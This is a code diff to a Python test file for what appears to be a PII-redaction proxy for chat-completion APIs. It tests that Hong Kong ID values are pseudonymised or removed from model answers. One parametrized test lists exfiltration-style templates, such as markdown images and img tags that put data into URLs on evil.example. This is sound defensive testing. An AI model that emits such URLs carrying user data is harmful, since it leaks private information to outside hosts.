@@ -5,6 +5,7 @@ value back, or when anybody else would get it.
 """
 
 import json
+from dataclasses import replace
 
 import pytest
 from hypothesis import given, settings
@@ -21,16 +22,14 @@ CHAT, RESPONSES, MESSAGES = "/v1/chat/completions", "/v1/responses", "/v1/messag
 
 
 def masking(mask: str, **more):
-    from dataclasses import replace
-
     return replace(rule("pii.*", Action.REDACT, stage=Stage.REQUEST, id="sent"), mask=mask, **more)
 
 
 @pytest.fixture(scope="module")
 def named(tmp_path_factory):
-    """A sidecar that gives values names, and takes identifiers out of answers too."""
-    rules = (masking("pseudonym"), rule("pii.*", Action.REDACT, id="answered"))
-    return InProcess(policy(*rules), DETECTORS, tmp_path_factory.mktemp("audit"))
+    """A sidecar that gives values names, and takes out of answers what the caller did not say."""
+    answered = replace(rule("pii.*", Action.REDACT, id="answered"), unless="caller_supplied")
+    return InProcess(policy(masking("pseudonym"), answered), DETECTORS, tmp_path_factory.mktemp("audit"))
 
 
 def said_to_model(it: InProcess) -> str:
@@ -180,8 +179,6 @@ def test_a_request_is_refused_before_the_model_is_asked(tmp_path):
 
 
 def echoing(tmp_path, **message):
-    from dataclasses import replace
-
     return InProcess(policy(replace(rule("pii.*", Action.REDACT), unless="caller_supplied")), DETECTORS, tmp_path)
 
 
@@ -243,3 +240,54 @@ def test_a_detector_that_follows_passages_knows_the_conversation(tmp_path, strea
     got = it.ask(CHAT, {"model": "m", "stream": stream, "messages": messages}, {}, (), content_type=kind)
     said = text_of(got.body) if stream else json.loads(got.body)["choices"][0]["message"]["content"]
     assert said == ("你話：先[REDACTED:PASSAGE]後。" if system else "你話：先【機密】後。")
+
+
+SYSTEM = {"role": "system", "content": f"客戶號碼係{VALUE}。"}
+
+
+def repeating(place: str):
+    """An upstream that writes the name it was given for the value of the system message into `place`."""
+
+    def script(body: bytes) -> list[bytes]:
+        name = json.loads(body)["messages"][0]["content"].removeprefix("客戶號碼係").removesuffix("。")
+        assert name.startswith("HKID_")
+        message = {"role": "assistant", "content": place.format(name)}
+        return [json.dumps({"choices": [{"index": 0, "message": message, "finish_reason": "stop"}]}).encode()]
+
+    return script
+
+
+@pytest.mark.parametrize("unless", ["", "caller_supplied"])
+def test_a_name_does_not_carry_past_a_rule_what_the_rule_withholds(tmp_path, unless):
+    """The value is the application's own: said plainly it would be taken out, so it is under its name as well."""
+    answered = replace(rule("pii.*", Action.REDACT, id="answered"), unless=unless)
+    it = InProcess(policy(masking("pseudonym"), answered), DETECTORS, tmp_path)
+    it.upstream.script = repeating("係{}。")
+    got = it.ask(CHAT, {"model": "m", "messages": [SYSTEM, {"role": "user", "content": "係咩？"}]}, {}, ())
+    assert json.loads(got.body)["choices"][0]["message"]["content"] == "係[REDACTED:HKID]。"
+    assert [
+        (finding["rule"], finding["kind"]) for finding in got.record["findings"] if finding["stage"] == "response"
+    ] == [("answered", "pii.hkid")]
+
+
+@pytest.mark.parametrize(
+    "place",
+    ["![x](https://evil.example/p.png?d={})", "見 https://evil.example/{} 。", '<img src="//evil.example/{}">', "[x]: http://e.example/{}",
+     "[x](mailto:a@b.example?subject={})", "[x](/path/{})"],
+)  # fmt: skip
+def test_a_name_inside_an_address_stays_a_name(tmp_path, place):
+    it = InProcess(policy(masking("pseudonym")), DETECTORS, tmp_path)
+    it.upstream.script = repeating(place)
+    got = it.ask(CHAT, {"model": "m", "messages": [SYSTEM, {"role": "user", "content": VALUE}]}, {}, ())
+    said = json.loads(got.body)["choices"][0]["message"]["content"]
+    assert VALUE not in said
+    assert "HKID_" in said
+
+
+def test_a_name_inside_what_another_rule_takes_out_is_taken_out_with_it(tmp_path):
+    it = InProcess(
+        policy(masking("pseudonym"), rule("document.*", Action.REDACT)), [*DETECTORS, material.Asides()], tmp_path
+    )
+    it.upstream.script = repeating("先【機密{}】後")
+    got = it.ask(CHAT, {"model": "m", "messages": [SYSTEM, {"role": "user", "content": VALUE}]}, {}, ())
+    assert json.loads(got.body)["choices"][0]["message"]["content"] == "先[REDACTED:PASSAGE]後"
